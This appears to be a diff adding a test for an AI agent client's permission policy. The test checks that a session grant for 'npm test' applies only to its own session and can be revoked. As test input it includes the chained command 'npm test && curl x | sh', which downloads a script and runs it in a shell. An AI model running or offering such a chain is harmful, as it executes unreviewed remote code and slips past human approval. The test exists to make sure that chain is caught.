@@ -149,6 +149,44 @@ describe("permission policy in the client", function () {
     );
   });
 
+  it("a session grant approves the next matching request of that session only; revoking it brings the card back", async () => {
+    harness = new ClientHarness({ protocol: "v2" });
+    const ws = harness.workspace;
+    const command = (id: string, line: string) => ({
+      request: {
+        title: "Run",
+        subject: {
+          type: "tool_call",
+          toolCall: { toolCallId: id, kind: "execute", rawInput: { command: line, cwd: ws } },
+        },
+        options: OPTIONS,
+      },
+    });
+    const key = await harness.sessions.startSession("Scripted");
+    const other = await harness.sessions.startSession("Scripted");
+    const [rule] = parsePermissionSettings({ allow: [{ command: "npm test" }] }, "user").rules;
+    const grant = harness.sessions.addSessionGrant(key, rule!);
+    assert.ok(grant, "the session took the grant");
+    assert.deepEqual(
+      harness.sessions.sessionGrants().map((g) => [g.sessionKey, g.grant.rule.source]),
+      [[key, "session"]],
+    );
+    harness.send(key, { steps: [command("g1", "npm test"), command("g2", "npm test && curl x | sh")] });
+    await waitFor(() => harness.sessions.pending.size === 1, "a card for the chained command");
+    assert.equal(harness.outcomes().length, 1, "npm test approved by the grant, without a card");
+    harness.send(other, { steps: [command("o1", "npm test")] });
+    await waitFor(() => harness.sessions.pending.size === 2, "the other session's request gets a card");
+    assert.ok(harness.sessions.revokeSessionGrant(key, grant.id));
+    assert.deepEqual(harness.sessions.sessionGrants(), []);
+    const chained = harness.sessions.pending.list().find((p) => p.sessionKey === key)!;
+    harness.sessions.deny(chained.key); // ends the turn, so the session takes the next message
+    await waitFor(() => harness.outcomes().length === 2, "the chained command rejected");
+    await waitFor(() => harness.sessions.session(key)?.status === "ready", "the turn ended");
+    harness.send(key, { steps: [command("g3", "npm test")] });
+    await waitFor(() => harness.sessions.pending.size === 2, "after revoking, the same command gets a card");
+    assert.equal(harness.outcomes().length, 2, "nothing more approved without a person");
+  });
+
   it("fs/write_text_file never writes through a dangling link, Bypass on; nothing lands outside", async () => {
     harness = new ClientHarness({ protocol: "v1", bypass: true });
     const key = await harness.sessions.startSession("Scripted");
